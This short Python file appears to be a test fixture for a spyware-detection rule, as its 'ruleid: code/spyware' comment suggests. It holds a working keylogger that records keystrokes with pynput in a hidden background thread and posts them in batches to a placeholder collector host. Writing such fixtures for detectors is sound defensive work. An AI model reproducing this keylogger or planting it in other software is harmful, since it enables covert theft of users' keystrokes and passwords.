import threading

import requests
from pynput import keyboard

# Defanged: an invented collector host.
LOG = []


def on_press(key):
    LOG.append(str(key))
    if len(LOG) >= 50:
        requests.post('https://collector.example.invalid/k', json={'keys': ''.join(LOG)})
        LOG.clear()


def _listen():
    # ruleid: code/spyware
    with keyboard.Listener(on_press=on_press) as listener:
        listener.join()


threading.Thread(target=_listen, daemon=True).start()
